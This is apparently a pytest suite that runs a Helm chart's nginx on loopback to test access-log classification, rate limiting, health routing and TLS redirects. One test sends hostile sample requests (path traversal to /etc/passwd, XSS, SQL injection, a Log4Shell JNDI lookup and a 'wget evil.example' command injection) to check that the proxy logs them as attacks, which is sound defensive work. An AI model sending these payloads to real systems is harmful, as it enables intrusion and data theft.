"""The chart's nginx, for real: what it lets through, what it says when nobody answers, and what its log says."""

import http.client
import http.server
import json
import os
import re
import shutil
import socket
import ssl
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from support.chart import named, rendered
from support.loopback import answering
from support.ports import free_port, wait_until
from support.server_process import ServerProcess

API = "api.active-inference.com"
WORDS = r"unauthorized\|suspicious\|attack"


class Replica(http.server.BaseHTTPRequestHandler):
    """Answers with the status that the path asks for, and with the headers that it was sent."""

    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        body = json.dumps(dict(self.headers)).encode()
        status = self.path.partition("?")[0].rpartition("/")[2]
        self.send_response(int(status) if status.isdecimal() else 200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        """Say nothing."""


class Proxy:
    """The chart's nginx on ports of 127.0.0.1, with its files below one folder."""

    def __init__(self, folder: Path, values: dict[str, Any], places: dict[str, int]):
        program = shutil.which("nginx") or shutil.which("nginx", path="/usr/sbin:/usr/local/sbin")
        if program is None:
            pytest.skip("nginx is not installed: the chart's configuration is not tried (Debian: nginx-light)")
        self.https, self.http = free_port(), free_port()
        self.log = folder / "logs" / "access.log"
        self.certificate = _certificate(folder / "tls")
        self.log.parent.mkdir()
        text = named(rendered(values), "ConfigMap", "nginx")["data"]["nginx.conf"]
        replaced = {
            "0.0.0.0:8443": f"127.0.0.1:{self.https}",
            "0.0.0.0:8080": f"127.0.0.1:{self.http}",
            "/tmp/nginx": f"{folder}/nginx",
            "/secrets/tls": str(folder / "tls"),
            "/var/log/nginx": str(self.log.parent),
            **{name: f"127.0.0.1:{port}" for name, port in places.items()},
        }
        for before, after in replaced.items():
            assert before in text
            text = text.replace(before, after)
        config = folder / "nginx.conf"
        # As root its workers would be another user, who cannot enter the folder of a test.
        config.write_text(("user root;\n" if os.geteuid() == 0 else "") + text)
        command = [program, "-p", folder, "-c", config, "-e", folder / "error.log"]
        self.server = ServerProcess(command, port=self.https, log=folder / "nginx.log")

    def get(self, path: str, *, host: str = API, **headers: str) -> tuple[int, dict[str, str], str]:
        """The status, the headers and the body that a client gets who believes the certificate."""
        context = ssl.create_default_context(cafile=str(self.certificate))
        with socket.create_connection(("127.0.0.1", self.https), timeout=30) as plain:
            connection = http.client.HTTPConnection(host)
            connection.sock = context.wrap_socket(plain, server_hostname=host)
            try:
                connection.putrequest("GET", path, skip_accept_encoding=True)
                for name, value in headers.items():
                    connection.putheader(name.replace("_", "-"), value)
                connection.endheaders()
                answer = connection.getresponse()
                return answer.status, dict(answer.headers), answer.read().decode()
            finally:
                connection.close()

    def lines(self, count: int) -> list[dict[str, Any]]:
        """The lines of the access log, as soon as there are as many."""
        wait_until(lambda: len(self.log.read_bytes().splitlines()) >= count, f"{count} lines in the access log")
        # What a client sends as no UTF-8 stands there as it came.
        return [json.loads(line) for line in self.log.read_text(errors="replace").splitlines()]


def _certificate(folder: Path) -> Path:
    program = shutil.which("openssl")
    if program is None:
        pytest.skip("openssl is not installed: nothing else here makes a certificate for nginx")
    folder.mkdir()
    names = ",".join(f"DNS:{name}" for name in (API, "database.internal", "cache.internal", "scanned.example"))
    subprocess.run(
        [program, "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "2",
         "-subj", "/CN=test", "-addext", f"subjectAltName={names}",
         "-keyout", folder / "tls.key", "-out", folder / "tls.crt"],
        check=True, capture_output=True,
    )  # fmt: skip
    return folder / "tls.crt"


Start = Callable[..., Proxy]


@pytest.fixture
def proxy(tmp_path: Path) -> Iterator[Start]:
    """Start the chart's nginx before an API, a database's and a cache's adapter at these ports."""
    started: list[Proxy] = []

    def start(api: int, adapter: int | None = None, **values: Any) -> Proxy:
        adapter = adapter or api
        places = {"active-inference-api:8000": api, "postgres:8080": adapter, "cache:8080": adapter}
        made = Proxy(tmp_path, values, places)
        started.append(made)
        made.server.start()
        return made

    yield start
    for one in started:
        one.server.stop()


def test_each_line_of_the_log_says_what_it_may_be_a_trace_of(proxy) -> None:
    """The default format never holds the words that people look for."""
    asked = [
        ("/v1/agents", "normal"),
        ("/v1/models/3f0c/404", "normal"),
        ("/v1/agents?limit=10&after=a.b", "normal"),
        ("/v1/models/attic..v2/identity;rev=2", "normal"),
        ("/v1/agents/401", "unauthorized"),
        ("/v1/keys/403", "unauthorized"),
        ("/.env", "suspicious"),
        ("/wp-login.php", "suspicious"),
        ("/.git/config/401", "suspicious unauthorized"),
        ("/v1/../../etc/passwd", "attack"),
        ("/v1/models?name=%3Cscript%3Ealert(1)%3C/script%3E", "attack"),
        ("/v1/models?id=1%20UNION%20SELECT%20key%20FROM%20keys", "attack"),
        ("/v1/models?id=1'%20or%201=1", "attack"),
        ("/v1/models?name=$%7Bjndi:ldap://evil.example/a%7D", "attack"),
        ("/v1/models?name=a;wget%20evil.example", "attack"),
        ("/index.php?page=../../../etc/passwd", "attack suspicious"),
    ]
    with answering(Replica) as api:
        nginx = proxy(api)
        for path, _ in asked:
            nginx.get(path)
        nginx.get("/v1/agents", User_Agent="sqlmap/1.8")
        nginx.get("/v1/agents", User_Agent="${jndi:ldap://evil.example/a}")
    wanted = [*asked, ("/v1/agents", "suspicious"), ("/v1/agents", "attack")]
    assert [(line["request"].split()[1], line["classification"]) for line in nginx.lines(len(wanted))] == wanted
    found = subprocess.run(["grep", "-i", WORDS, nginx.log], capture_output=True, text=True, check=True).stdout
    assert len(found.splitlines()) == sum(said != "normal" for _, said in wanted)


def test_a_line_is_one_json_object_whatever_a_client_sends(proxy) -> None:
    with answering(Replica) as api:
        nginx = proxy(api)
        nginx.get('/v1/agents?q="}{\\', User_Agent='"quoted", \\ and é')
    [line] = nginx.lines(1)
    assert line["request"] == 'GET /v1/agents?q="}{\\ HTTP/1.1'
    assert line["address"] == "127.0.0.1"
    assert line["status"] == 200
    assert len(line["request_id"]) == 32


def test_the_replica_is_told_where_a_request_is_from_by_nginx_alone(proxy) -> None:
    with answering(Replica) as api:
        nginx = proxy(api)
        _, headers, body = nginx.get("/v1/agents", X_Forwarded_For="203.0.113.9", X_Request_ID="mine")
    seen = json.loads(body)
    assert seen["X-Forwarded-For"] == "127.0.0.1"
    assert seen["X-Forwarded-Proto"] == "https"
    assert seen["X-Request-ID"] == nginx.lines(1)[0]["request_id"]
    assert "max-age" in headers["Strict-Transport-Security"]


def test_without_a_replica_the_answer_is_a_problem_document_that_says_when_to_come_back(proxy) -> None:
    nginx = proxy(free_port())
    for path in ("/v1/agents", "/health"):
        status, headers, body = nginx.get(path)
        assert (status, headers["Retry-After"]) == (503, "1")
        assert headers["Content-Type"] == "application/problem+json"
        assert json.loads(body)["status"] == 503


def test_health_is_answered_within_a_second_although_every_replica_hangs(proxy) -> None:
    """They take connections and say nothing, as a process does that was stopped: each try has to be short for both."""
    with socket.create_server(("127.0.0.1", 0), backlog=16) as hung:
        nginx = proxy(hung.getsockname()[1])
        status, headers, body = nginx.get("/health")
    assert (status, headers["Retry-After"], json.loads(body)["status"]) == (503, "1", 503)
    [line] = nginx.lines(1)
    assert line["replica_status"] == "504, 504"
    text = named(rendered(), "ConfigMap", "nginx")["data"]["nginx.conf"]
    (of_health,) = re.findall(r"location = /health \{\s+proxy_pass http://api;(.*?)\}", text, re.DOTALL)
    waits = {name: int(value) for name, value in re.findall(r"proxy_(\w+) (\d+)(?:ms)?;", of_health)}
    assert waits["next_upstream_tries"] * (waits["connect_timeout"] + waits["read_timeout"]) <= 1000


def test_an_address_that_asks_too_often_is_told_so_and_health_still_answers(proxy) -> None:
    with answering(Replica) as api:
        nginx = proxy(api, nginx={"rate": {"requestsPerSecond": 1, "burst": 1}})
        answers = [nginx.get("/v1/agents") for _ in range(6)]
        assert nginx.get("/health")[0] == 200
    refused = [(headers, json.loads(body)) for status, headers, body in answers if status == 429]
    assert answers[0][0] == 200
    assert refused
    assert all(headers["Retry-After"] == "1" and body["status"] == 429 for headers, body in refused)


def test_what_the_api_refuses_goes_through_as_it_is(proxy) -> None:
    with answering(Replica) as api:
        nginx = proxy(api)
        for status in (429, 502, 503, 504):
            answered, _, body = nginx.get(f"/v1/agents/{status}")
            assert (answered, json.loads(body)["Host"]) == (status, API)


def test_the_health_of_database_and_cache_is_there_under_their_names_and_nothing_else_is(proxy) -> None:
    with answering(Replica) as api, answering(Replica) as adapter:
        nginx = proxy(api, adapter)
        for host in ("database.internal", "cache.internal"):
            status, _, body = nginx.get("/health", host=host)
            assert (status, json.loads(body)["Host"]) == (200, host)
            assert nginx.get("/metrics", host=host)[0] == 404
        assert nginx.get("/metrics")[0] == 404  # nor are the API's own numbers for the world


def test_the_health_of_the_database_is_not_for_everybody(proxy) -> None:
    with answering(Replica) as api:
        nginx = proxy(api, nginx={"internalNetworks": ["192.0.2.0/24"]})
        assert nginx.get("/health", host="database.internal")[0] == 403
        assert nginx.get("/health")[0] == 200


def test_a_host_that_is_none_of_ours_gets_nothing(proxy) -> None:
    with answering(Replica) as api:
        nginx = proxy(api)
        assert nginx.get("/v1/agents", host="scanned.example")[0] == 404


def test_without_tls_there_is_health_and_the_way_to_the_other_port(proxy) -> None:
    with answering(Replica) as api:
        nginx = proxy(api)
        answers = {}
        for path in ("/health", "/nginx-status", "/v1/agents?limit=3"):
            connection = http.client.HTTPConnection("127.0.0.1", nginx.http, timeout=30)
            connection.request("GET", path, headers={"Host": API})
            answer = connection.getresponse()
            answers[path] = answer.status, answer.headers["Location"], answer.read().decode()
            connection.close()
    assert answers["/health"] == (200, None, '{"status":"ok"}\n')
    assert "Active connections" in answers["/nginx-status"][2]
    assert answers["/v1/agents?limit=3"][:2] == (308, f"https://{API}/v1/agents?limit=3")
